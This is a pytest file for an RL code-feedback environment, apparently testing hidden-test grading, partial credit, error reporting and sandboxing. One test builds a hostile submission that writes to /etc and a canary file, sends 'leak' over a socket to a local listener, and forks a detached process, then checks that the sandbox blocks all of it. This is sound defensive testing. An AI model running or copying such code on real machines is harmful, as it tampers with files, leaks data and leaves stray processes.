"""The environment API (``rlvr.envs``) and the ``code_feedback`` environment: hidden tests decide
the reward and are never shown, one sandbox call per turn, partial credit, the controls, and
code that attacks the machine from inside an episode."""

from __future__ import annotations

import os
import socket

import pytest

import rlvr.envs as envs
from rlvr.envs import BlankFeedback, Turn, get_env_family, make, register_env
from rlvr.envs.code_feedback import HIDDEN_POINTS, NAMES
from rlvr.tasks.base import Example
from rlvr.verifiers.base import Verdict

root_only = pytest.mark.skipif(os.geteuid() != 0, reason="the sandbox needs root (CI runs as root)")
FAMILY = get_env_family("code_feedback")


def answer(example: Example, guess: int | None = None) -> str:
    r = example.reference
    b = r["b"] if guess is None else guess
    return f"def {r['name']}(x):return ({r['a'] + r['b']}-{b})*x+{b}"


def problem_with_choices() -> Example:
    """A training problem whose prompt admits several (a, b) pairs."""
    return next(
        e for e in FAMILY.examples("train") if 3 <= e.reference["a"] + e.reference["b"] <= 15
    )


def test_problems_split_by_prompt_and_cover_every_pair():
    train, heldout = FAMILY.examples("train"), FAMILY.examples("heldout")
    assert not {e.prompt for e in train} & {e.prompt for e in heldout}
    top = train[0].meta["coef_max"]
    assert len(train) + len(heldout) == (top + 1) ** 2 * len(NAMES)  # every (a, b) under every name
    # within a training prompt every consistent b is present: nothing to learn but the feedback
    by_prompt: dict[str, set[int]] = {}
    for e in train:
        by_prompt.setdefault(e.prompt, set()).add(e.reference["b"])
    for prompt, bs in by_prompt.items():
        total = int(prompt.split("=")[1])
        assert bs == set(range(max(0, total - top), min(top, total) + 1)), prompt
    assert FAMILY.examples("train", seed=1)[0].id != FAMILY.examples("train", seed=2)[0].id
    assert [e.id for e in FAMILY.examples("train", 5, seed=3)] == [
        e.id for e in FAMILY.examples("train", seed=3)[:5]
    ]


def test_make_builds_an_episode_on_a_heldout_problem_or_a_given_one():
    env = make("code_feedback", seed=4)
    assert env.example.id in {e.id for e in FAMILY.examples("heldout")}
    assert make("code_feedback", seed=4).example == env.example
    chosen = FAMILY.examples("train")[7]
    assert make("code_feedback", example=chosen).reset() == chosen.prompt
    with pytest.raises(KeyError, match="known environments: .*code_feedback"):
        make("no_such_env")


def test_register_env_adds_an_environment():
    @register_env("test_counter")
    class Counter:
        name = "test_counter"

        def __init__(self, example, max_turns: int = 2):
            self.example, self.max_turns, self.n = example, max_turns, 0

        @classmethod
        def examples(cls, split, n=None):
            return [Example(f"{split}-{i}", f"count to {i}", i) for i in range(n or 3)]

        def reset(self):
            self.n = 0
            return self.example.prompt

        def step(self, action):
            self.n += 1
            return Turn(f"you said {action}", self.n >= self.max_turns)

        def verdict(self):
            return Verdict(float(self.n == self.example.reference), "correct")

    env = make("test_counter", seed=0, max_turns=5)
    assert env.reset().startswith("count to") and env.max_turns == 5
    assert "test_counter" in envs.env_names()


@root_only
def test_a_turn_shows_the_visible_test_and_scores_the_hidden_ones():
    example = problem_with_choices()
    r = example.reference
    env = make("code_feedback", example=example, max_turns=3)
    assert env.reset() == f"{r['name']}(1)={r['a'] + r['b']}"
    wrong = next(b for b in range(10) if b != r["b"] and r["a"] + r["b"] - b >= 0)
    turn = env.step(answer(example, wrong))
    assert not turn.done
    assert turn.observation == f"{r['name']}(0)={wrong}, expected {r['b']}"
    for x in HIDDEN_POINTS:  # the hidden tests' values are never in what the model sees
        if x != 0:
            assert f"{r['name']}({x})" not in turn.observation
    # consistent with f(1) but wrong: the x = 1 hidden test passes, the others fail
    assert env.verdict().score == pytest.approx(1 / len(HIDDEN_POINTS))
    assert env.verdict().status == "partial"
    turn = env.step(answer(example))
    assert turn.done and turn.observation == f"{r['name']}(0): ok"
    assert env.verdict() == Verdict(1.0, "correct", "4/4 hidden tests passed (attempt 2)")


@root_only
def test_errors_come_back_with_their_line_and_the_episode_goes_on():
    example = problem_with_choices()
    env = make("code_feedback", example=example, max_turns=3)
    env.reset()
    name = example.reference["name"]
    turn = env.step(f"def {name}(x):\n    return y\n")
    assert "NameError: name 'y' is not defined (line 2)" in turn.observation and not turn.done
    turn = env.step(f"def {name}(x) return 1")
    assert "SyntaxError" in turn.observation and not turn.done
    assert env.verdict().score == 0.0
    turn = env.step("no code here at all")  # third and last attempt: the episode ends
    assert turn.done


@root_only
def test_instruct_style_speaks_in_words():
    example = FAMILY.examples("train", style="instruct")[0]
    env = make("code_feedback", example=example, style="instruct")
    assert "```python" in env.reset()
    r = example.reference
    wrong = (r["b"] + 1) % 10
    turn = env.step(f"Sure!\n```python\n{answer(example, wrong)}\n```")
    assert f"{r['name']}(0): expected {r['b']}, got {wrong}" in turn.observation


@root_only
def test_blank_feedback_hides_everything_but_still_grades():
    example = problem_with_choices()
    env = BlankFeedback(make("code_feedback", example=example, max_turns=2), 2, "try again")
    env.reset()
    first = env.step(answer(example))  # right at once: a real episode would end here
    assert first.observation == "try again" and not first.done
    second = env.step(answer(example, (example.reference["b"] + 1) % 10))
    assert second.observation == "try again" and second.done
    assert env.verdict().score < 1.0  # the last attempt is what counts


@root_only
def test_code_that_attacks_the_machine_has_no_effect_and_the_episode_goes_on(tmp_path):
    from test_code_attacks import sandbox_processes

    from rlvr.envs.code_feedback import shared_verifier

    canary = tmp_path / "canary.txt"
    canary.write_text("untouched")
    os.chmod(tmp_path, 0o777)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.settimeout(0.5)
    port = listener.getsockname()[1]
    example = problem_with_choices()
    name = example.reference["name"]
    attack = (
        "import os, socket, subprocess, time\n"
        f"def {name}(x):\n"
        f"    for p in ({str(canary)!r}, {str(tmp_path)!r} + '/new.txt', '/etc/rlvr-canary'):\n"
        "        try:\n            open(p, 'w').write('owned')\n        except OSError:\n            pass\n"
        "    try:\n"
        f"        socket.create_connection(('127.0.0.1', {port}), timeout=1).sendall(b'leak')\n"
        "    except OSError:\n        pass\n"
        "    if os.fork() == 0:\n        os.setsid()\n        time.sleep(1000)\n"
        "    return 1 / 0\n"
    )
    env = make("code_feedback", example=example, max_turns=2)
    env.reset()
    turn = env.step(attack)
    assert not turn.done and "ZeroDivisionError" in turn.observation
    assert canary.read_text() == "untouched"
    assert not (tmp_path / "new.txt").exists() and not os.path.exists("/etc/rlvr-canary")
    with pytest.raises(TimeoutError):
        listener.accept()
    listener.close()
    assert sandbox_processes(shared_verifier()) == []
    turn = env.step(answer(example))  # the episode goes on: the fix scores
    assert turn.done and env.verdict().score == 1.0


def test_demonstrations_guess_without_reading_the_feedback():
    """A demonstration's revision is another guess consistent with f(1), drawn from the same
    distribution whatever the feedback said."""
    import random

    example = problem_with_choices()
    total = example.reference["a"] + example.reference["b"]
    env = FAMILY(example)
    rng, guesses = random.Random(0), []
    first, second = env.demonstration(rng, guesses), env.demonstration(rng, guesses)
    assert guesses[0] != guesses[1]
    for text, guess in zip((first, second), guesses, strict=True):
        assert text == f"b={guess}\ndef {example.reference['name']}(x):return ({total}-b)*x+b"
    # the guesses do not depend on the problem's b: two problems with the same prompt
    twins = [e for e in FAMILY.examples("train") if e.prompt == example.prompt]
    assert len(twins) > 1
    draws = [FAMILY(t).demonstration(random.Random(5), []) for t in twins]
    assert len(set(draws)) == 1
